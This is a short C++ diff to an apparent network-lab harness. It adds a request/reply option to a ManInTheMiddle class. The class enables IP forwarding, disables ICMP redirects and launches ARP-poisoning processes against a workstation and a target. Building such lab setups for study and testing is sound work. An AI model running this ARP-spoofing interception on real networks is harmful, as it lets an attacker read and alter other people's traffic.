@@ -71,15 +71,16 @@ std::vector<double> Lan::forgeArp(const std::string& forger, int count, int inte
     return times;
 }
 
-ManInTheMiddle::ManInTheMiddle(Lan& lan, const std::string& forger, int intervalMs) : lan_(lan) {
+ManInTheMiddle::ManInTheMiddle(Lan& lan, const std::string& forger, int intervalMs, bool requests)
+    : lan_(lan) {
     auto& lab = lan_.namespaces();
     lab.sysctl(lan_.attacker(), "net.ipv4.ip_forward", "1");
     lab.sysctl(lan_.attacker(), "net.ipv4.conf.all.send_redirects", "0");
     lab.sysctl(lan_.attacker(), "net.ipv4.conf.eth0.send_redirects", "0");
     auto poison = [&](const char* claimed, const char* victimIp, const char* victimMac) {
-        return std::make_unique<Process>(
-            lab.execArgv(lan_.attacker(), {forger, "eth0", claimed, kAttackerMac, victimIp,
-                                           victimMac, "100000", std::to_string(intervalMs)}));
+        return std::make_unique<Process>(lab.execArgv(
+            lan_.attacker(), {forger, "eth0", claimed, kAttackerMac, victimIp, victimMac, "100000",
+                              std::to_string(intervalMs), requests ? "request" : "reply"}));
     };
     toWs_ = poison(kTargetIp, kWsIp, kWsMac);
     toTarget_ = poison(kWsIp, kTargetIp, kTargetMac);
